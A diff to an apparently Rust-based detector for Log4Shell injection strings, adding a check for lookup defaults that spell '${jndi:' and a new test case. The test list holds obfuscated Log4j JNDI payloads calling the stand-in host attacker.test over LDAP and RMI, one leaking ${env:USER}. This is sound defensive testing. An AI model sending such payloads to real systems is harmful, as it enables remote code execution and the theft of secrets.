@@ -6,7 +6,8 @@
 //! enough to see what each lookup's name resolves to, in one pass over the value, with fixed buffers on the stack
 //! and a bounded nesting depth, and reports a lookup whose resolved name starts with `jndi:`.
 //!
-//! - **Low**: a lookup that resolves to `jndi:…` (plain, nested, case or Unicode tricks, defaults, `date:`);
+//! - **Low**: a lookup that resolves to `jndi:…` (plain, nested, case or Unicode tricks, defaults, `date:`), or
+//!   whose default spells `${jndi:` (Log4j substitutes a lookup's value again);
 //!   nesting deeper than Log4j needs ([`MAX_DEPTH`]).
 //! - **Medium**: also lookups nested inside a lookup's name (`${${base64:…}…}`: nothing benign nests them), and
 //!   `${env:…}`/`${sys:…}`-style lookups inside a URL (secrets exfiltrated through a DNS name or a path).
@@ -96,7 +97,8 @@ impl Seen {
     /// Records what one resolved lookup name says.
     fn judge(&mut self, name: &Name) {
         let head = name.head();
-        if starts_with_ignore_case(head, b"jndi:") {
+        // A lookup's value is substituted again: a default that spells `${jndi:` is a JNDI lookup too.
+        if starts_with_ignore_case(head, b"jndi:") || contains_ignore_case(name.default_value(), b"${jndi:") {
             self.jndi = true;
         }
         if SECRET_LOOKUPS.iter().any(|l| starts_with_ignore_case(head, l)) {
@@ -282,6 +284,10 @@ fn starts_with_ignore_case(text: &[u8], prefix: &[u8]) -> bool {
     text.get(..prefix.len()).is_some_and(|head| head.eq_ignore_ascii_case(prefix))
 }
 
+fn contains_ignore_case(text: &[u8], needle: &[u8]) -> bool {
+    text.windows(needle.len()).any(|w| w.eq_ignore_ascii_case(needle))
+}
+
 fn strip_prefix_ignore_case<'a>(text: &'a [u8], prefix: &[u8]) -> Option<&'a [u8]> {
     if starts_with_ignore_case(text, prefix) {
         text.get(prefix.len()..)
@@ -322,6 +328,7 @@ mod tests {
             "${${k8s:k5:-J}${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.test/}",
             "${${lower:J}${lower:N}${lower:D}${lower:I}:${lower:L}${lower:D}${lower:A}${lower:P}://x.test}",
             "${jndi:ldap://attacker.test/${env:USER}",
+            "$${sys:a:-${sys:b:-$}{jndi:rmi://attacker.test/x}}",
         ] {
             assert_eq!(level(attack), Some(Sensitivity::Low), "{attack}");
         }
